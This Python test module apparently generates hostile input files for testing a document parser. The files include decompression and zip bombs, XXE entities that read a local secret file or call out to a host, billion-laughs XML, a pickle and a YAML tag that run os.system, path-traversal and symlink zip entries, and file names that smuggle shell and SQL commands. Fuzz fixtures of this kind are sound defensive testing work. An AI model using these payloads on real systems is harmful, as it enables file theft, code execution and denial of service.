"""Three hundred files that nobody should open: fuzzed, bombs, nested, of another kind, with tricks (恶意文件)."""

from __future__ import annotations

import io
import random
import stat
import zipfile
from collections.abc import Iterator

from tests.hostile.making import (
    MAKERS,
    OLE,
    RELATIONS,
    claimed,
    deflated,
    docx,
    html,
    lines,
    mutated,
    odt,
    overlapping,
    pdf,
    pdf_of,
    rtf,
    stream,
    txt,
    zipped,
)

_BOMB = 20 * 1024**2

Files = Iterator[tuple[str, bytes]]


def hostile_files(secret: str, address: str) -> dict[str, bytes]:
    """Every file by its name, the same each time.

    Args:
        secret: The path of a file that none of them may read.
        address: A host and port that none of them may reach.
    """
    found: dict[str, bytes] = {}
    for kind in (_fuzzed, _fuzzed_inside, _bombs, _nested, _wrong_kinds, _tricks, _lines, _encodings, _names):
        found |= dict(kind())
    found |= dict(_entities(secret, address))
    return found


def _fuzzed() -> Files:
    seed = 0
    for ending, make in MAKERS.items():
        whole = make(10_000)
        for _ in range(4 if ending == "doc" else 12):
            seed += 1
            chance = random.Random(seed)
            yield f"模糊-{seed:03}.{ending}", mutated(whole if ending == "pdf" else make(seed * 10), chance)


def _fuzzed_inside() -> Files:
    """Archives that are whole, of parts that are not."""
    for number in range(30):
        chance = random.Random(number + 700)
        data = (docx if number % 2 else odt)(20_000 + number)
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            parts = {info.filename: package.read(info) for info in package.infolist()}
        hurt = chance.choice(sorted(parts)) if number % 5 else next(name for name in parts if name.endswith((".xml",)))
        parts[hurt] = mutated(parts[hurt], chance)
        if number % 7 == 0:
            del parts[chance.choice(sorted(parts))]
        yield f"内伤-{number:02}.{'docx' if number % 2 else 'odt'}", zipped(parts)


def _bombs() -> Files:
    blank, text = b" " * _BOMB, txt(30_000)
    yield "弹-空白.zip", zipped({"白.txt": blank})
    yield "弹-空白.docx", docx(1, more={"word/media/x.bin": blank})
    yield "弹-正文.docx", docx(1, " " * _BOMB)
    yield "弹-正文.odt", odt(1, " " * _BOMB)
    nested = zipped({"白.txt": blank})
    yield "弹-套白.zip", zipped({"内.zip": nested, "文.txt": txt(30_001)})
    for depth in (2, 3, 30):
        nested = zipped({"文.txt": txt(30_010 + depth)})
        for _ in range(depth):
            nested = zipped({"内.zip": nested})
        yield f"弹-套{depth}.zip", nested
    yield "弹-多.zip", zipped({f"{number}.txt": b"" for number in range(2_500)})
    yield "弹-多.docx", docx(2, more={f"x/{number}.xml": b"" for number in range(2_500)})
    yield "弹-目录.zip", zipped({f"{number}/": b"" for number in range(3_000)})
    yield "弹-同文.zip", zipped({f"{number}.txt": text for number in range(12)})
    yield "弹-叠.zip", overlapping(zipped({"文.txt": b"a" * 100_000}), 8)
    yield "弹-叠大.zip", overlapping(zipped({"文.txt": b" " * 4_000_000}), 300)
    for number, size in enumerate((0, 10, 2**31, 2**32 - 1)):
        yield f"弹-谎{number}.zip", claimed(zipped({"白.txt": b" " * 3_000_000, "文.txt": txt(30_040 + number)}), size)
        yield f"弹-谎{number}.docx", claimed(docx(30_050 + number, more={"word/x.xml": b" " * 3_000_000}), size)
    lying = claimed(zipped({"内.zip": b" " * _BOMB}), 10)
    yield "弹-谎套.zip", zipped({"甲.txt": txt(30_060), "乙.zip": lying, "丙.txt": txt(30_061)})
    yield "弹-字.txt", "要抓落实。".encode() * 450_000
    yield "弹-页.pdf", pdf_of(b"<</Type/Pages/Count 99999999/Kids[3 0 R]>>", _PAGE)
    yield "弹-流.pdf", pdf_of(_PAGES, _PAGE, deflated(b" " * _BOMB))
    yield "弹-bz2.zip", zipped({"白.txt": b" " * 5_000_000}, zipfile.ZIP_BZIP2)
    yield "弹-lzma.zip", zipped({"白.txt": b" " * 5_000_000}, zipfile.ZIP_LZMA)


_PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"


def _nested() -> Files:
    for depth in (100, 1_000, 10_000):
        for tag in ("div", "aside", "table><tr><td", "b", "blockquote", "form"):
            yield (
                f"深-{depth}-{tag[:5]}.html",
                f"<html><body><{tag}>".encode() + f"<{tag}>".encode() * depth + "要抓落实。".encode(),
            )
        yield f"深-{depth}.rtf", b"{\\rtf1" + b"{" * depth + b"x" + b"}" * depth + b"}"
        yield f"深-{depth}.docx", docx(1, "<w:sdt>" * depth + "<w:p/>" + "</w:sdt>" * depth)
        yield f"深-{depth}.odt", odt(1, "<text:section>" * depth + "<text:p>文</text:p>" + "</text:section>" * depth)
        yield f"深-{depth}.md", b"> " * depth + "要抓落实。".encode() + b"\n" + b"- " * depth + b"x\n" + b"[" * depth
        yield f"深-{depth}.txt", ("（" * depth + "一、" * 50 + "）" * depth).encode()
    yield "深-行.odt", odt(1, "<text:p>" + "<text:span>" * 250 + "文" + "</text:span>" * 250 + "</text:p>")
    yield "深-空.odt", odt(1, f'<text:p>要<text:s text:c="{10**9}"/>抓</text:p>')
    yield "深-己.pdf", pdf_of(b"<</Type/Pages/Count 1/Kids[2 0 R]>>", _PAGE)
    yield (
        "深-环.pdf",
        pdf_of(b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>", b"<</Type/Pages/Parent 3 0 R/Kids[2 0 R]/Count 9>>"),
    )
    yield "深-表单.pdf", pdf_of(
        _PAGES, _PAGE[:-2] + b"/Resources<</XObject<</F 5 0 R>>>>>>", stream(b"/F Do"),
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream",
    )  # fmt: skip
    yield "深-括.pdf", pdf_of(_PAGES, _PAGE, stream(b"[" * 100_000))
    yield "深-典.pdf", pdf_of(_PAGES, b"<</A" * 20_000 + b">>" * 20_000)
    yield "深-回.md", b"---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n" + b"".join(
        b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(1, 12)
    ) + b"title: *m\ndate: *m\n---\n" + txt(31_000)  # fmt: skip


def _wrong_kinds() -> Files:
    samples = {
        "exe": b"MZ\x90\0\3" + bytes(60) + b"This program cannot be run in DOS mode" + bytes(200),
        "elf": b"\x7fELF\2\1\1" + bytes(300),
        "png": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "jpg": b"\xff\xd8\xff\xe0" + bytes(100),
        "sqlite": b"SQLite format 3\0" + bytes(400),
        "gzip": b"\x1f\x8b\x08" + bytes(50),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "noise": random.Random(1).randbytes(5_000),
        "pickle": b"\x80\x04\x95cos\nsystem\n(S'touch /tmp/x'\ntR.",
        "xlsx": zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}),
    }
    for number, (kind, data) in enumerate(samples.items()):
        for ending in ("docx", "pdf", "txt", "html", "rtf")[number % 2 :: 2]:
            yield f"冒充-{kind}.{ending}", data
    for ending, other in (
        ("pdf", docx),
        ("txt", pdf),
        ("docx", html),
        ("odt", rtf),
        ("doc", odt),
        ("html", docx),
        ("rtf", txt),
    ):
        yield f"改名.{ending}", other(32_000 + len(ending) * 10 + ord(ending[0]))
    for ending in ("docx", "odt", "pdf", "doc", "rtf", "html", "zip", "txt", "md"):
        yield f"空.{ending}", b""
    yield "病.docm", docx(1, more={"word/vbaProject.bin": OLE})
    yield "本.sh", b"#!/bin/sh\nreboot\n"
    yield "没有扩展名", txt(1)


def _entities(secret: str, address: str) -> Files:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    ) + "]>"  # fmt: skip
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>'
    local = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">]>'
    far = f'<!DOCTYPE x [<!ENTITY a SYSTEM "http://{address}/a">]>'
    parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{address}/p"> %p;]>'
    dtd = f'<!DOCTYPE x SYSTEM "http://{address}/x.dtd">'
    loop = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    for number, (prolog, text) in enumerate(
        (
            (laughs, "&j;"),
            (quadratic, "&a;" * 2_000),
            (local, "&a;"),
            (far, "&a;"),
            (parameter, "文"),
            (dtd, "文"),
            (loop, "&a;"),
        )
    ):
        yield f"实体-{number}.docx", docx(1, f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", prolog=prolog)
        yield f"实体-{number}.odt", odt(1, f"<text:p>{text}</text:p>", prolog=prolog)
    words = txt(33_000).decode()
    links = f'<link rel=stylesheet href="http://{address}/"><img src="http://{address}/"><iframe src="file://{secret}"></iframe><base href="http://{address}/">'
    yield "外-页.html", f"<html><body>{links}<p>{words}</p></body></html>".encode()
    yield (
        "外-包含.html",
        f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{secret}">]><html><body>&x;<xi:include href="file://{secret}"/></body></html>'.encode(),
    )
    yield "外-链.docx", docx(33_001, more={"word/_rels/document.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="http://{address}/x.dotm" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{RELATIONS}/image" Target="file://{secret}" TargetMode="External"/></Relationships>').encode()})  # fmt: skip
    yield (
        "外-域.rtf",
        b'{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT "'
        + secret.encode()
        + b'"}{\\fldrslt x}}{\\object\\objlink http://'
        + address.encode()
        + b"}}",
    )
    yield (
        "外-动.pdf",
        pdf_of(_PAGES, _PAGE[:-2] + b"/AA<</O<</S/URI/URI(http://" + address.encode() + b"/)>>>>>>", stream(b"")),
    )
    yield "外-前.md", f"---\ntitle: !!python/object/apply:os.system ['touch {secret}']\n---\n{words}".encode()


def _tricks() -> Files:
    """Names in archives that lead elsewhere, each beside a good file."""
    names = (
        "../外.txt", "../../../../../../tmp/外.txt", "/tmp/外.txt", "//主机/外.txt", "C:/外.txt", "C:外.txt", "..\\外.txt", "a/../../外.txt",
        "\\\\主机\\外.txt", "./外.txt", "a//b.txt", "~/外.txt", "$HOME/外.txt", "a\x01b.txt", "a\nb.txt", "\u202etxt.exe.txt", "外.txt ", " .txt", "con.txt",
        "a" * 300 + ".txt", "a/" * 400 + "b.txt", "外.txt/",
    )  # fmt: skip
    for number, name in enumerate(names):
        yield f"路径-{number:02}.zip", zipped({name: txt(34_000 + number), "好.txt": txt(34_100 + number)})
    yield "路径-空.zip", zipped({"a%00b.txt": txt(34_200)}).replace(b"a%00b", b"a\0xxb")
    link = zipfile.ZipInfo("链.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, b"/etc/passwd")
        device = zipfile.ZipInfo("管.txt")
        device.external_attr = (stat.S_IFIFO | 0o777) << 16
        archive.writestr(device, b"x")
    yield "路径-链.zip", out.getvalue()
    twice = zipped({"同名一.txt": txt(34_300), "同名二.txt": txt(34_301)})
    yield "路径-同名.zip", twice.replace("同名二".encode(), "同名一".encode())
    yield "路径-多名.docx", docx(34_302, more={"word/../word/document.xml": b"<x/>", "/word/document.xml": b"<x/>"})
    yield "路径-己.zip", zipped({"己.zip": b"PK\5\6" + bytes(18)})
    yield "路径-前缀.zip", b"MZ" * 500 + zipped({"文.txt": txt(34_303)})


def _lines() -> Files:
    word = "要抓落实"
    yield "行-空.txt", b"\n" * 19_000
    yield "行-白.txt", (" \u3000\t\n" * 6_000).encode()
    yield "行-长.txt", (word * 6_000).encode()
    yield "行-逗.txt", (f"{word}，" * 6_000).encode()
    yield "行-短.txt", "一\n".encode() * 3_000
    yield "行-题.txt", "".join(f"一、{word}\n" for _ in range(1_500)).encode()
    yield "行-题题.txt", "".join(f"（{n}）{word}\n" for n in range(1_500)).encode()
    yield "行-点.txt", ("一是" + word + "。" * 3).encode() * 15_000
    yield "行-点点.txt", "".join(f"第{n}，{word}。" for n in range(4_000)).encode()
    yield "行-引.txt", ("“" * 30_000 + word).encode()
    yield "行-括.txt", ("（一）" * 3_000).encode()
    yield "行-号.txt", ("1." * 50_000 + word).encode()
    yield "行-数.txt", ("9" * 200_000 + word).encode()
    yield "行-千.txt", "千".encode() * 100_000
    yield "行-省.txt", ("…" * 30_000 + "\n" + "-" * 30_000 + "\n" + "_" * 20_000).encode()
    yield "行-全角.txt", (f"{word}　　" * 3_000).encode()
    yield "行-网.txt", ("http://x." + "a." * 50_000 + "\n" + "www." * 3_000).encode()
    yield "行-标.txt", ("《" * 20_000 + word + "》" * 3_000).encode()
    yield "行-同.txt", "同志们：\n".encode() * 3_000
    yield "行-组合.txt", (word + "\u0300" * 200_000).encode()
    yield "行-向.txt", ("\u202e\u2066" * 50_000 + word).encode()
    yield "行-零宽.txt", ("\u200b\ufeff" * 20_000).encode()
    yield "行-表情.txt", ("\U0001f525" * 20_000).encode()
    yield "行-控.txt", (word + "\x01\x1b[2J\x7f").encode() * 5_000
    yield "行-属.html", b"<p " + b"a=1 " * 60_000 + b">x" + "要抓落实。".encode() + b"<!--" + b"-" * 3_000
    yield "行-注.html", b"<!-- " * 30_000
    yield "行-标.md", b"#" * 50_000 + b"\n" + b"*_" * 50_000 + b"\n" + b"|" * 50_000 + b"\n" + b"`" * 50_001
    yield "行-链.md", b"[x](" * 6_000 + b"\n" + b"![" * 20_000 + b"\n" + b"<" * 50_000
    yield "行-码.rtf", b"{\\rtf1" + b"\\u-1?" * 30_000 + b"\\'" * 20_000 + b"\\bin999999999 x}"
    yield "行-网页.txt", ("来源：x 时间：2024-01-01 字号：大 中 小 打印 分享\n" * 5_000).encode()


def _encodings() -> Files:
    for number, encoding in enumerate(
        (
            "utf-16",
            "utf-16-be",
            "utf-32",
            "utf-7",
            "gb18030",
            "big5",
            "hz",
            "shift_jis",
            "euc-kr",
            "cp1251",
            "koi8-r",
            "cp037",
        )
    ):
        yield f"码-{encoding}.txt", "\n".join(lines(35_000 + number)).encode(encoding, "replace")
    yield "码-标记.txt", b"\xff\xfe" + txt(35_100)
    yield "码-标记.html", b"\xef\xbb\xbf" * 3 + html(35_101)
    yield "码-谎.html", html(35_102).replace(b"<head>", b"<head><meta charset=utf-16>")
    yield "码-混.txt", txt(35_103) + "\n要抓落实。".encode("gbk") * 20
    yield "码-半.txt", txt(35_104)[:-1] + b"\xed\xa0\x80"
    yield "码-零.txt", txt(35_105).replace(b"\n", b"\0\n")
    yield "码-符.html", html(35_106).replace(b"<p>", b"<p>&#0;&#xD800;&#x110000;&#99999999999;&amp;lt;")


def _names() -> Files:
    for number, name in enumerate(
        ("\u202etxt.exe.txt", "a\x1b[2Jb.txt", "a\nb.txt", "a\tb.docx", "；rm -rf ~；.txt", "<b>x&.txt", "{0}%s.txt", "-rf.txt",
         "'; DROP TABLE speeches;--.txt", "\u200b.txt", "́" * 80 + ".txt", "\U0001f525" * 50 + ".txt", "讲" * 80 + ".txt", "x.TXT",
         "..txt.txt", "$(id).txt", "`id`.html", "con.txt", "a|b.txt", "*?.txt", "\u2028.txt", "e\u0301.txt", "\udcff\udcfe.txt")
    ):  # fmt: skip
        yield (
            name,
            txt(36_000 + number) if name.lower().endswith("txt") else MAKERS[name.rpartition(".")[2]](36_000 + number),
        )
